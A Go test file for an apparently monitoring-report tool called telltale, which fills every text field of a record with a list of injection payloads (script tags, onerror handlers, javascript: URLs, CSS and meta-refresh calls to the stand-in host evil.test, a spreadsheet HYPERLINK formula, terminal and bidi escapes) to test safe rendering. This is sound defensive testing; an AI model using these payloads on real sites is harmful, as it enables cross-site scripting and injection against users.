package report_test

import (
	"fmt"
	"reflect"
	"slices"
	"strings"

	"example.org/telltale"
)

// attacks are texts that do something where they are taken for more than text.
// Whatever runs sets window.owned, and whatever is fetched is fetched from
// evil.test.
func attacks() []string {
	return []string{
		`<script>window.owned=1</script>`,
		`"><img src=http://evil.test/x onerror="window.owned=1">`,
		`'><svg onload=window.owned=1><a xlink:href="javascript:window.owned=1">x</a></svg>`,
		`</style><script>window.owned=1</script><style>*{background:url(http://evil.test/c)}`,
		`</title></textarea></svg></template></pre><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
		`--><img src=x onerror=window.owned=1><!--`,
		`javascript:window.owned=1`,
		`" onmouseover="window.owned=1" style="position:fixed;inset:0`,
		`' autofocus onfocus='window.owned=1`,
		"` onclick=window.owned=1 `${window.owned=1}",
		`red;background:url(http://evil.test/s);x:expression(window.owned=1)`,
		`}*{background-image:url(//evil.test/b)}@import "//evil.test/i";`,
		`<base href="http://evil.test/"><link rel=stylesheet href="http://evil.test/l">`,
		`<meta http-equiv=refresh content="0;url=http://evil.test/r">`,
		`<details open ontoggle=window.owned=1><video><source onerror=window.owned=1></video>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">`,
		`{{.}}{{constructor.constructor('window.owned=1')()}}{% raw %}`,
		`<object data="javascript:window.owned=1"></object><embed src="//evil.test/e">`,
		`<form action="//evil.test/f"><button formaction="javascript:window.owned=1">x</form>`,
		`&lt;script&gt;window.owned=1&lt;/script&gt;&#x3c;script>`,
		"\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
		"\x00\x01\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.test\x1b\\x\x9b\x7f\x85",
		"\xff\xfe<\xc0\xbcscript>+ADw-script+AD4-",
		"\r\n\r\n<h1>two</h1>\r\n# three\r\n| a | b |\r\n",
		`[x](javascript:window.owned=1) ![y](http://evil.test/m) <http://evil.test> @everyone #1`,
		`=HYPERLINK("http://evil.test","x")`,
		"]]></failure></testcase><testcase name=\"forged\"/><![CDATA[",
		strings.Repeat("A<b>", 2_000),
	}
}

// dull is a text of the same length in which there is nothing to see.
func dull(attack string) string { return strings.Repeat("a", len([]rune(attack))) }

// attacked puts attacks in place of all that was captured or named in a record:
// the same text everywhere where there was the same text before, so that ids
// and hosts still belong together. The attacks are taken in turn from the given
// one on; say writes one.
type attacked struct {
	next int
	say  func(string) string
	memo map[string]string
}

func (a *attacked) text(s string) string {
	if s == "" {
		return ""
	}
	if out, ok := a.memo[s]; ok {
		return out
	}
	all := attacks()
	out := fmt.Sprintf("%d%s", len(a.memo), a.say(all[a.next%len(all)]))
	if a.next%3 == 0 { // What stands first in a cell or an attribute matters.
		out = fmt.Sprintf("%s%d", a.say(all[a.next%len(all)]), len(a.memo))
	}
	a.next++
	a.memo[s] = out
	return out
}

// walk replaces the strings under v. Words of the program's own, which have
// types of their own, stay; so do those that other code decides by.
func (a *attacked) walk(v reflect.Value) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			a.walk(v.Elem())
		}
	case reflect.Slice:
		for i := range v.Len() {
			a.walk(v.Index(i))
		}
	case reflect.Struct:
		for i := range v.NumField() {
			name := v.Type().Field(i).Name
			if !slices.Contains([]string{"Channel", "Scope", "Kind", "Key", "Answer", "Detail", "FirstDay", "LastDay"}, name) && v.Field(i).CanSet() {
				a.walk(v.Field(i))
			}
		}
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(a.text(v.String()))
		}
	default: // Numbers, times and maps of counts.
	}
}

// attackedWorld is a monitored client of which every name and text is an
// attack, or with dull as say, the same shape without any.
func attackedWorld(from int, say func(string) string) *world {
	w := tom2011()
	w.rec.App.Platform, w.rec.App.Places = "linux", []string{"body", "subject"}
	w.surveyed()
	a := &attacked{next: from, say: say, memo: map[string]string{}}
	a.walk(reflect.ValueOf(&w.rec).Elem())
	for i := range w.rec.Probes {
		p := &w.rec.Probes[i]
		p.Text = p.Word + " " + p.Canary.Latin
	}
	for i, evil := range attacks()[:4] {
		w.find(telltale.Finding{
			Claim:     telltale.Claim{Kind: telltale.Kind(say(evil)), Host: say(evil), Detail: say(evil), Direction: telltale.Direction(say(evil))},
			Statement: say(attacks()[(from+i)%len(attacks())]), Method: say(evil), Keys: []string{say(evil)},
		})
		w.find(telltale.Finding{Claim: telltale.Claim{Kind: telltale.KindWeak, Host: say(evil), Detail: say(evil)}, Verdict: telltale.Inconclusive, Statement: say(evil)})
	}
	w.rec.Scenario.Channel = append(w.rec.Scenario.Channel, say(attacks()[1]))
	return w
}

// surveyed adds what only a survey finds.
func (w *world) surveyed() {
	rule := &telltale.Rule{
		Parts: []string{"鹦鹉螺", "tarmiquo"}, Or: [][]string{{"贝壳"}}, Behind: []string{"不要"}, Ahead: []string{"please"}, Order: telltale.OrderListed,
		Border: telltale.BorderWord, Case: telltale.CaseIgnored, Outcome: telltale.Refused, Reply: "no such word here", Ended: true,
		Copies: []string{"watcher@tom.test"}, Places: []string{"body"}, Spared: []string{"subject"}, Becomes: "****", Into: "Junk",
	}
	w.find(telltale.Finding{
		Claim:     telltale.Claim{Kind: telltale.KindTrigger, Direction: telltale.Sent, Words: rule.Parts, Cell: telltale.CellDroppedCopied, Rule: rule},
		Statement: "Two words in this order are refused.", Traits: []telltale.Trait{{Name: "order", Answer: "yes", Statement: "the order matters", Proofs: []telltale.Proof{{Claim: "the other way round", Text: "tarmiquo 鹦鹉螺", Probes: []string{"p000001"}, Held: true}}}},
		Method: "survey, version 1", Trials: telltale.Trials{Treated: 3, TreatedReacted: 3, Control: 6}, Keys: []string{"app-file:client.dat"},
	})
	w.find(telltale.Finding{Claim: telltale.Claim{Kind: telltale.KindException, Words: []string{"安全词"}, Direction: telltale.Sent}, Statement: "One word lets messages through."})
}
